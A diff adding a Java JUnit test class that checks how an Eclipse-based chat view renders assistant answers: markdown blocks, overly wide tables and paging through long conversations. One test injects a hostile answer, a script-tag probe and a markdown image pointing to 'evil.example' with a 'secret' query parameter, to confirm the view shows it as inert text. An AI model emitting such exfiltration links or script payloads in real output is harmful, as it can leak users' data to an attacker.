@@ -1,0 +1,107 @@
+package org.tftsr.ui.chat.tests;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.List;
+import java.util.UUID;
+
+import org.eclipse.swt.custom.StyledText;
+import org.junit.jupiter.api.Test;
+import org.tftsr.core.ai.ChatMessage;
+import org.tftsr.core.ai.Conversation;
+import org.tftsr.core.ai.ConversationRepository;
+import org.tftsr.core.ai.MessageRole;
+import org.tftsr.core.ai.MessageState;
+import org.tftsr.core.ai.ProviderRepository;
+import org.tftsr.ui.Services;
+import org.tftsr.ui.testsupport.Workbench;
+
+/** What an answer looks like; it may come from anybody. */
+class RenderingTest extends ChatTest {
+
+	private void answer(String text) throws Exception {
+		ConversationRepository repository = Services.get(ConversationRepository.class);
+		Conversation conversation = repository.create(issue, "Rendering", ProviderRepository.LOCAL_ID, null);
+		ChatMessage question = repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), null, MessageRole.USER,
+				"Show me.", MessageState.COMPLETE, List.of()));
+		repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), question.id(), MessageRole.ASSISTANT, text,
+				MessageState.COMPLETE, List.of()));
+		Chat.waitForText("Show me.");
+		Chat.settle();
+	}
+
+	private static String shown() throws Exception {
+		return Workbench.ui(() -> Chat.conversation().getText());
+	}
+
+	@Test
+	void blocksAreTextInTheirOrder() throws Exception {
+		answer("""
+				# Cause
+
+				The *pool* is **exhausted**, see `pool.max`.
+
+				- [x] look at it
+				- [ ] raise it
+
+				| what | how many |
+				|:-----|---------:|
+				| pool | 20 |
+
+				```yaml
+				pool: 20 # too few
+				```
+				> quoted
+				""");
+		String text = shown();
+		assertTrue(text.contains("Cause\nThe pool is exhausted, see pool.max.\n"), text);
+		assertTrue(text.contains("\u2611  look at it\n\u2610  raise it\n"), text);
+		assertTrue(text.contains("what   how many\npool         20\n"), text);
+		assertTrue(text.contains("yaml\npool: 20 # too few\nquoted"), text);
+		Workbench.screenshot("chat-blocks");
+	}
+
+	@Test
+	void markupOfAnAnswerIsText() throws Exception {
+		answer("<script>alert(1)</script>\n\n![leak](https://evil.example/?d=secret) a\u202Eb\u200Bc \u0007");
+		String text = shown();
+		assertTrue(text.contains("<script>alert(1)</script>"), text);
+		assertTrue(text.contains("leak abc"), text);
+		assertFalse(text.contains("\u202E"));
+	}
+
+	@Test
+	void aTableThatIsTooWideGoesOnWithinItsCells() throws Exception {
+		answer("| a | b |\n|---|---|\n| " + "long words in a cell ".repeat(20) + " | 1 |\n");
+		StyledText text = Workbench.ui(Chat::conversation);
+		String[] lines = shown().split("\n");
+		int most = 0;
+		for (String line : lines) {
+			most = Math.max(most, line.length());
+		}
+		assertTrue(most < 200, shown());
+		assertTrue(Workbench.ui(text::getLineCount) > 5);
+	}
+
+	@Test
+	void manyMessagesAreShownFromTheEnd() throws Exception {
+		ConversationRepository repository = Services.get(ConversationRepository.class);
+		Conversation conversation = repository.create(issue, "Long", ProviderRepository.LOCAL_ID, null);
+		UUID parent = null;
+		for (int i = 1; i <= 100; i++) {
+			parent = repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), parent,
+					i % 2 == 1 ? MessageRole.USER : MessageRole.ASSISTANT, "message " + i + ".", MessageState.COMPLETE, List.of()))
+					.id();
+		}
+		Chat.waitForText("message 100.");
+		Chat.settle();
+		assertFalse(shown().contains("message 60."));
+		Chat.click("Show earlier messages (60)");
+		Chat.waitForText("message 21.");
+		Chat.settle();
+		assertTrue(shown().contains("Show earlier messages (20)"));
+		assertEquals(80, shown().split("message ").length - 1);
+	}
+}
